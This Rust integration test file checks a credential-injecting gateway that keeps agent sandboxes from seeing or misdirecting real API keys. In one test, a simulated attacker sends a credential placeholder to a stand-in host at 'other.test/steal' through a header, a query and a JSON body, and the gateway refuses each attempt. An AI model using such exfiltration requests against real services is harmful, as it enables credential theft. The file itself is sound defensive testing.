//! Sessions through the assembled data path, in-process without root: a sandbox of a session
//! sends placeholders and gets them swapped for the real value only toward the credential's
//! host over verified TLS; echoes of the value reach it scrubbed; its policy's rules, rate
//! limits and PII mode are enforced and audited; a revoked session is refused; WebSockets
//! and server-sent events stream through the gateway. Each case as the agent (or an attacker
//! in its sandbox) would notice it, and as the audit log records it.

#[cfg(test)]
#[path = "pipeline/support.rs"]
#[allow(
    dead_code,
    reason = "shared with pipeline.rs; each test binary uses part of it"
)]
mod support;

use std::time::Duration;

use bytes::Bytes;
use futures_util::{SinkExt, StreamExt};
use http::Request;
use http_body_util::{BodyExt, Full};
use sluice::credentials::{CredentialSpec, Secret};
use sluice::policy::{HostRule, PiiMode, PolicySpec, RateLimit};
use support::upstream::Upstreams;
use support::{Client, Gateway, Reply, session_with};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

/// The real value, bound to api.test: it must reach api.test and nothing else, and never
/// the sandbox or the audit log.
const SECRET: &str = "sk-live-8c1f0e7d2b9a4c6e8f1a3b5d7c9e0f21";
/// What the sandbox holds instead.
const PLACEHOLDER: &str = "sluice_cred:API_KEY";

/// `API_KEY` = [`SECRET`], bound to api.test, allowed in any header, in queries and in
/// bodies.
fn api_key() -> (CredentialSpec, Secret) {
    support::api_key(SECRET)
}

/// The upstreams, a gateway, and a session holding [`api_key`] under no policy.
async fn keyed() -> (Upstreams, Gateway, String) {
    let up = Upstreams::start().await;
    let gw = Gateway::start(Default::default(), &up).await;
    let id = gw
        .create_session(session_with(vec![api_key()], PolicySpec::default()))
        .await;
    (up, gw, id)
}

/// A request with `Host: host` and `headers`, carrying `body`.
fn request(
    method: &str,
    uri: &str,
    host: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Request<Full<Bytes>> {
    let mut request = Request::new(Full::new(Bytes::from(body.to_owned())));
    *request.method_mut() = http::Method::from_bytes(method.as_bytes()).unwrap_or_default();
    *request.uri_mut() = http::Uri::try_from(uri).unwrap_or_default();
    for (name, value) in [("host", host)].iter().chain(headers) {
        if let (Ok(name), Ok(value)) = (
            http::HeaderName::from_bytes(name.as_bytes()),
            http::HeaderValue::from_str(value),
        ) {
            request.headers_mut().append(name, value);
        }
    }
    request
}

/// `Authorization: Bearer <placeholder>`.
const BEARER: (&str, &str) = ("authorization", "Bearer sluice_cred:API_KEY");

/// One request from a sandbox of session `id` over a new TLS connection whose SNI is
/// `host` (HTTP/2 when `h2`); status 0 and the error when the TLS connection fails.
async fn over_tls(
    gw: &Gateway,
    up: &Upstreams,
    id: &str,
    h2: bool,
    request: Request<Full<Bytes>>,
) -> Reply {
    let host = request
        .headers()
        .get(http::header::HOST)
        .and_then(|h| h.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let alpn: &[u8] = if h2 { b"h2" } else { b"http/1.1" };
    match gw.connect_tls_in(id, up.https, &host, &[alpn]).await {
        Ok(tls) => Client::open(tls, h2).await.send(request).await,
        Err(e) => Reply {
            status: 0,
            headers: http::HeaderMap::new(),
            body: format!("TLS through the gateway failed: {e}"),
        },
    }
}

/// Asserts the secret is nowhere in `reply` (status line aside, all a client reads).
fn assert_no_secret(reply: &Reply, what: &str) {
    assert!(!reply.body.contains(SECRET), "{what}: the body: {reply:?}");
    for (name, value) in &reply.headers {
        let value = String::from_utf8_lossy(value.as_bytes());
        assert!(!value.contains(SECRET), "{what}: header {name}: {reply:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_reaches_its_host_as_the_secret_and_the_sandbox_sees_only_the_placeholder() {
    let (up, gw, id) = keyed().await;
    for h2 in [false, true] {
        let get = request("GET", "https://api.test/headers", "api.test", &[BEARER], "");
        let reply = over_tls(&gw, &up, &id, h2, get).await;
        assert_eq!(reply.status, 200, "h2={h2}: {reply:?}");
        // The upstream echoes what it got, in a header and in the body: the sandbox reads
        // its placeholder back, never the value.
        assert_no_secret(&reply, "the echo");
        assert_eq!(
            reply.header("x-echoed-authorization"),
            "Bearer sluice_cred:API_KEY",
            "h2={h2}"
        );
        assert!(
            reply
                .body
                .contains("authorization: Bearer sluice_cred:API_KEY\n"),
            "h2={h2}: {reply:?}"
        );
    }
    let seen = up.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    for request in &seen {
        assert!(request.tls && request.host == "api.test", "{request:?}");
        assert_eq!(request.header("authorization"), format!("Bearer {SECRET}"));
    }
    let records = gw.records("request", 2);
    for record in &records {
        assert_eq!(record["decision"], "allow", "{record}");
        assert_eq!(record["session"], id.as_str(), "{record}");
        assert_eq!(record["credentials"], serde_json::json!(["API_KEY"]));
    }
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_toward_another_host_or_over_plain_http_is_refused_and_never_sent() {
    let (up, gw, id) = keyed().await;
    let json = ("content-type", "application/json");
    let body = r#"{"key":"sluice_cred:API_KEY"}"#;
    // An attacker in the sandbox aims the placeholder at a host of its choosing, over
    // verified TLS (in a header, the query and a JSON body) ...
    let misdirected = [
        request(
            "GET",
            "https://other.test/steal",
            "other.test",
            &[BEARER],
            "",
        ),
        request(
            "GET",
            "https://other.test/steal?key=sluice_cred:API_KEY",
            "other.test",
            &[],
            "",
        ),
        request(
            "POST",
            "https://other.test/steal",
            "other.test",
            &[json],
            body,
        ),
    ];
    for (i, get) in misdirected.into_iter().enumerate() {
        let reply = over_tls(&gw, &up, &id, i == 0, get).await;
        assert_eq!(reply.status, 403, "case {i}: {reply:?}");
        assert!(
            reply.body.contains("sluice_cred:API_KEY")
                && reply.body.contains("other.test")
                && reply.body.contains("not bound to this host"),
            "case {i}: the reason names the credential, the host and why: {reply:?}"
        );
    }
    // ... or over plain HTTP to an address it chose, claiming the credential's host.
    let plain = gw.connect_in(&id, up.http).await;
    let get = request("GET", "/", "api.test", &[BEARER], "");
    let reply = Client::open(plain, false).await.send(get).await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(
        reply
            .body
            .contains("credential API_KEY is only sent over HTTPS to api.test")
            && reply.body.contains("plain HTTP"),
        "{reply:?}"
    );
    assert!(
        up.seen().is_empty(),
        "a refused request was sent: {:?}",
        up.seen()
    );
    let records = gw.records("request", 4);
    for record in &records {
        assert_eq!(record["decision"], "deny", "{record}");
        assert_eq!(record["status"], 403, "{record}");
        assert_eq!(record["session"], id.as_str(), "{record}");
        let reason = record["reason"].as_str().unwrap_or_default();
        assert!(reason.contains("API_KEY"), "{record}");
        assert!(
            record
                .get("credentials")
                .is_none_or(|c| c == &serde_json::json!([])),
            "nothing injected: {record}"
        );
    }
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn echoes_of_the_secret_reach_the_sandbox_scrubbed_over_http1_h2_and_plain_http() {
    let up = Upstreams::start().await;
    // A host the credential is not bound to learned the value elsewhere and echoes it, in
    // 7-byte chunks (so the value spans several).
    up.store(&format!("stored={SECRET}; again {SECRET}."));
    let gw = Gateway::start(Default::default(), &up).await;
    let id = gw
        .create_session(session_with(vec![api_key()], PolicySpec::default()))
        .await;
    let want = format!("stored={PLACEHOLDER}; again {PLACEHOLDER}.");
    for h2 in [false, true] {
        let get = request("GET", "https://other.test/stored", "other.test", &[], "");
        let reply = over_tls(&gw, &up, &id, h2, get).await;
        assert_eq!(reply.status, 200, "h2={h2}: {reply:?}");
        assert_no_secret(&reply, "the echo");
        assert_eq!(reply.body, want, "h2={h2}");
    }
    let plain = gw.connect_in(&id, up.http).await;
    let get = request("GET", "/stored", "other.test", &[], "");
    let reply = Client::open(plain, false).await.send(get).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.body, want, "plain HTTP is scrubbed too");
    // A sandbox without the session reads the echo as the upstream sent it: the scrubbing
    // above is the session's doing, not the echo's.
    let tls = gw
        .connect_tls(up.https, "other.test", &[b"http/1.1"])
        .await
        .unwrap();
    let get = request("GET", "https://other.test/stored", "other.test", &[], "");
    let reply = Client::open(tls, false).await.send(get).await;
    assert!(reply.body.contains(SECRET), "{reply:?}");
    gw.records("request", 4);
    gw.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_in_a_json_body_is_swapped_only_where_the_credential_allows_bodies() {
    let up = Upstreams::start().await;
    let gw = Gateway::start(Default::default(), &up).await;
    let (mut headers_only, value) = api_key();
    headers_only.name = "HEADER_KEY".into();
    headers_only.body = false;
    let credentials = vec![api_key(), (headers_only, value)];
    let id = gw
        .create_session(session_with(credentials, PolicySpec::default()))
        .await;
    let json = ("content-type", "application/json");
    let body = r#"{"key":"sluice_cred:API_KEY","n":1}"#;
    let post = request(
        "POST",
        "https://api.test/headers",
        "api.test",
        &[json],
        body,
    );
    let reply = over_tls(&gw, &up, &id, false, post).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_no_secret(&reply, "the echoed body");
    assert!(reply.body.ends_with(body), "echoed as sent: {reply:?}");
    let seen = up.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    let sent = format!(r#"{{"key":"{SECRET}","n":1}}"#);
    assert_eq!(seen[0].body, sent.as_bytes(), "the upstream got the value");
    assert_eq!(seen[0].header("content-length"), sent.len().to_string());
    // A credential not enabled for bodies is refused there, and nothing is sent.
    let body = r#"{"key":"sluice_cred:HEADER_KEY"}"#;
    let post = request(
        "POST",
        "https://api.test/headers",
        "api.test",
        &[json],
        body,
    );
    let reply = over_tls(&gw, &up, &id, true, post).await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(
        reply.body.contains("sluice_cred:HEADER_KEY") && reply.body.contains("`body: true`"),
        "{reply:?}"
    );
    assert_eq!(up.seen().len(), 1, "the refused body was sent");
    let records = gw.records("request", 2);
    let injected = records
        .iter()
        .find(|r| r["decision"] == "allow")
        .unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!(injected["credentials"], serde_json::json!(["API_KEY"]));
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pii_in_a_body_is_blocked_redacted_or_let_through_by_the_sessions_mode() {
    let up = Upstreams::start().await;
    let gw = Gateway::start(Default::default(), &up).await;
    let body = r#"{"note":"mail jane.doe@example.com, card 4111 1111 1111 1111"}"#;
    let redacted = r#"{"note":"mail [REDACTED:email], card [REDACTED:card_number]"}"#;
    let mut ids = Vec::new();
    for pii in [PiiMode::Block, PiiMode::Redact, PiiMode::Off] {
        let policy = PolicySpec {
            pii,
            ..PolicySpec::default()
        };
        ids.push(gw.create_session(session_with(Vec::new(), policy)).await);
    }
    let json = ("content-type", "application/json");
    let post = || {
        request(
            "POST",
            "https://api.test/v1/notes",
            "api.test",
            &[json],
            body,
        )
    };

    let blocked = over_tls(&gw, &up, &ids[0], false, post()).await;
    assert_eq!(blocked.status, 403, "{blocked:?}");
    assert!(
        blocked.body.contains("PII in request body: ")
            && blocked.body.contains("email")
            && blocked.body.contains("card_number"),
        "the reason names the kinds: {blocked:?}"
    );
    assert!(up.seen().is_empty(), "a blocked body reached the host");

    let reply = over_tls(&gw, &up, &ids[1], true, post()).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let reply = over_tls(&gw, &up, &ids[2], false, post()).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let seen = up.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0].body, redacted.as_bytes(), "redact");
    assert_eq!(
        seen[1].body,
        body.as_bytes(),
        "off sends the body unchanged"
    );

    let records = gw.records("request", 3);
    let of = |id: &str| {
        records
            .iter()
            .find(|r| r["session"] == id)
            .unwrap_or_else(|| panic!("no record of {id}: {records:?}"))
    };
    let (block, redact, off) = (of(&ids[0]), of(&ids[1]), of(&ids[2]));
    assert_eq!(block["decision"], "deny", "{block}");
    assert_eq!(block["status"], 403, "{block}");
    assert!(block["pii"]["email"].as_u64() >= Some(1), "{block}");
    assert_eq!(redact["decision"], "allow", "{redact}");
    assert!(redact["pii"]["card_number"].as_u64() >= Some(1), "{redact}");
    assert_eq!(off["decision"], "allow", "{off}");
    assert!(
        off.get("pii").is_none_or(|p| p == &serde_json::json!({})),
        "nothing scanned: {off}"
    );
    let audit = gw.stop().await;
    assert!(!audit.contains("jane.doe@example.com") && !audit.contains("4111 1111"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_request_past_the_sessions_rate_limit_gets_429_with_retry_after() {
    let up = Upstreams::start().await;
    let gw = Gateway::start(Default::default(), &up).await;
    let policy = PolicySpec {
        rate_limits: vec![RateLimit {
            host: "api.test".into(),
            per_minute: 3,
        }],
        ..PolicySpec::default()
    };
    let id = gw.create_session(session_with(Vec::new(), policy)).await;
    let tls = gw
        .connect_tls_in(&id, up.https, "api.test", &[b"http/1.1"])
        .await
        .unwrap();
    let mut client = Client::open(tls, false).await;
    for i in 0..3 {
        let get = request("GET", "https://api.test/limited", "api.test", &[], "");
        let reply = client.send(get).await;
        assert_eq!(reply.status, 200, "request {i}: {reply:?}");
    }
    let get = request("GET", "https://api.test/limited", "api.test", &[], "");
    let limited = client.send(get).await;
    assert_eq!(limited.status, 429, "{limited:?}");
    let retry: u64 = limited.header("retry-after").parse().unwrap_or(0);
    assert!((1..=60).contains(&retry), "Retry-After: {limited:?}");
    assert!(
        limited.body.contains("rate limit") && limited.body.contains("3 requests per minute"),
        "{limited:?}"
    );
    assert_eq!(up.seen().len(), 3, "the fourth never reached the host");
    let records = gw.records("request", 4);
    let refused: Vec<_> = records.iter().filter(|r| r["status"] == 429).collect();
    assert_eq!(refused.len(), 1, "{records:?}");
    assert_eq!(refused[0]["decision"], "deny", "{}", refused[0]);
    assert_eq!(refused[0]["side"], "policy", "{}", refused[0]);
    gw.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_the_sessions_policy_refuses_gets_403_naming_the_rule() {
    let up = Upstreams::start().await;
    let gw = Gateway::start(Default::default(), &up).await;
    let policy = PolicySpec {
        rules: vec![HostRule {
            host: "api.test".into(),
            methods: vec!["GET".into()],
            paths: vec!["/v1/".into()],
        }],
        ..PolicySpec::default()
    };
    let id = gw.create_session(session_with(Vec::new(), policy)).await;
    let allowed = request("GET", "https://api.test/v1/models", "api.test", &[], "");
    let reply = over_tls(&gw, &up, &id, true, allowed).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let cases = [
        ("DELETE", "/v1/models", "method DELETE"),
        ("GET", "/admin", "path /admin"),
    ];
    for (method, path, why) in cases {
        let uri = format!("https://api.test{path}");
        let refused = request(method, &uri, "api.test", &[], "");
        let reply = over_tls(&gw, &up, &id, false, refused).await;
        assert_eq!(reply.status, 403, "{method} {path}: {reply:?}");
        assert!(
            reply
                .body
                .contains(&format!("refused by the policy of session {id}"))
                && reply.body.contains("rules[0] api.test")
                && reply.body.contains(why),
            "{method} {path}: the reason names the rule: {reply:?}"
        );
    }
    let seen = up.seen();
    assert_eq!(seen.len(), 1, "only the allowed request was sent: {seen:?}");
    let records = gw.records("request", 3);
    let denied: Vec<_> = records.iter().filter(|r| r["decision"] == "deny").collect();
    assert_eq!(denied.len(), 2, "{records:?}");
    for record in denied {
        assert_eq!(record["side"], "policy", "{record}");
        assert!(
            record["reason"]
                .as_str()
                .is_some_and(|r| r.contains("rules[0] api.test")),
            "{record}"
        );
    }
    gw.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_or_unknown_session_is_refused_on_open_and_new_connections() {
    let (up, gw, id) = keyed().await;
    let tls = gw
        .connect_tls_in(&id, up.https, "api.test", &[b"http/1.1"])
        .await
        .unwrap();
    let mut open = Client::open(tls, false).await;
    let get = || request("GET", "https://api.test/headers", "api.test", &[BEARER], "");
    assert_eq!(open.send(get()).await.status, 200);
    gw.revoke(&id).await;
    // The connection opened before the revocation: its next request is refused.
    let reply = open.send(get()).await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(
        reply.body.contains(&format!("session {id} is revoked")),
        "{reply:?}"
    );
    // A connection opened after it, too.
    let reply = over_tls(&gw, &up, &id, true, get()).await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(reply.body.contains("revoked"), "{reply:?}");
    // A session id the store never issued is refused, never served as "no session".
    let unknown = "ses_aaaaaaaaaaaaaaaaaaaaaaaaaa";
    let reply = over_tls(&gw, &up, unknown, false, get()).await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(reply.body.contains(unknown), "{reply:?}");
    assert_eq!(
        up.seen().len(),
        1,
        "only the request before the revocation was sent"
    );
    let records = gw.records("request", 4);
    let denied: Vec<_> = records.iter().filter(|r| r["decision"] == "deny").collect();
    assert_eq!(denied.len(), 3, "{records:?}");
    assert!(denied.iter().all(|r| r["side"] == "policy"), "{denied:?}");
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_messages_are_echoed_both_ways_and_scrubbed_for_a_session() {
    let (up, gw, id) = keyed().await;
    // Without a session the tunnel copies bytes; with credentials the gateway relays (and
    // scrubs) message by message. Both carry what each side sends.
    for session in [None, Some(id.as_str())] {
        let tls = match session {
            Some(id) => {
                gw.connect_tls_in(id, up.https, "api.test", &[b"http/1.1"])
                    .await
            }
            None => gw.connect_tls(up.https, "api.test", &[b"http/1.1"]).await,
        }
        .unwrap();
        let mut upgrade = "wss://api.test/ws".into_client_request().unwrap();
        let bearer = http::HeaderValue::from_static("Bearer sluice_cred:API_KEY");
        upgrade.headers_mut().insert("authorization", bearer);
        let (mut ws, response) = tokio_tungstenite::client_async(upgrade, tls).await.unwrap();
        assert_eq!(response.status(), 101, "session {session:?}");
        // The upstream's first message says the upgrade's `authorization`: for the session
        // it got the value (checked below) and the sandbox reads it back scrubbed; without
        // one the placeholder is plain text, sent and echoed as is.
        let said = ws.next().await.unwrap().unwrap();
        let want = Message::text(format!("authorization: Bearer {PLACEHOLDER}"));
        assert_eq!(said, want, "session {session:?}");
        let sent = [
            Message::text(format!("up: {PLACEHOLDER}")),
            Message::binary(vec![0u8, 1, 2, 255]),
            Message::text("x".repeat(70_000)),
        ];
        for message in sent {
            ws.send(message.clone()).await.unwrap();
            let echoed = ws.next().await.unwrap().unwrap();
            assert_eq!(echoed, message, "session {session:?}");
        }
        ws.close(None).await.unwrap();
        while ws.next().await.is_some_and(|m| m.is_ok()) {}
    }
    let seen = up.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(
        seen[0].header("authorization"),
        format!("Bearer {PLACEHOLDER}")
    );
    assert_eq!(seen[1].header("authorization"), format!("Bearer {SECRET}"));
    let records = gw.records("request", 2);
    for record in &records {
        assert_eq!(record["status"], 101, "{record}");
        assert_eq!(record["protocol"], "http/1.1>websocket", "{record}");
        assert!(record["bytes_up"].as_u64() > Some(70_000), "{record}");
        assert!(record["bytes_down"].as_u64() > Some(70_000), "{record}");
    }
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_sent_events_reach_the_sandbox_while_the_upstream_holds_the_stream_open() {
    let (up, gw, id) = keyed().await;
    // A session with credentials puts the stream through the scrubber, which may hold back
    // only what could still become a value.
    for (session, h2) in [
        (None, false),
        (Some(id.as_str()), false),
        (Some(id.as_str()), true),
    ] {
        let alpn: &[u8] = if h2 { b"h2" } else { b"http/1.1" };
        let tls = match session {
            Some(id) => gw.connect_tls_in(id, up.https, "api.test", &[alpn]).await,
            None => gw.connect_tls(up.https, "api.test", &[alpn]).await,
        }
        .unwrap();
        let mut client = Client::open(tls, h2).await;
        let get = request("GET", "https://api.test/sse", "api.test", &[BEARER], "");
        let response = client.response(get).await;
        let case = format!("session {session:?}, h2={h2}");
        assert_eq!(response.status(), 200, "{case}");
        assert_eq!(
            response.headers()["content-type"],
            "text/event-stream",
            "{case}"
        );
        let mut body = response.into_body();
        let mut read = Vec::new();
        // The upstream sends its second event only once released below: the first must
        // arrive on its own. (The timeout only guards against a hang.)
        let first = tokio::time::timeout(Duration::from_secs(10), async {
            while !read.ends_with(b"\n\n") {
                match body.frame().await {
                    Some(Ok(frame)) => {
                        read.extend_from_slice(frame.data_ref().map_or(&[][..], |d| d))
                    }
                    _ => break,
                }
            }
        })
        .await;
        assert!(
            first.is_ok(),
            "{case}: the first event was held back while the stream was open; read {:?}",
            String::from_utf8_lossy(&read)
        );
        let want = format!("data: Bearer {PLACEHOLDER}\n\n");
        assert_eq!(String::from_utf8_lossy(&read), want, "{case}");
        up.release_events();
        let rest = body.collect().await.unwrap().to_bytes();
        assert_eq!(&rest[..], b"data: done\n\n", "{case}");
    }
    let seen = up.seen();
    assert_eq!(seen[1].header("authorization"), format!("Bearer {SECRET}"));
    gw.records("request", 3);
    let audit = gw.stop().await;
    assert!(!audit.contains(SECRET), "the audit log holds the value");
}
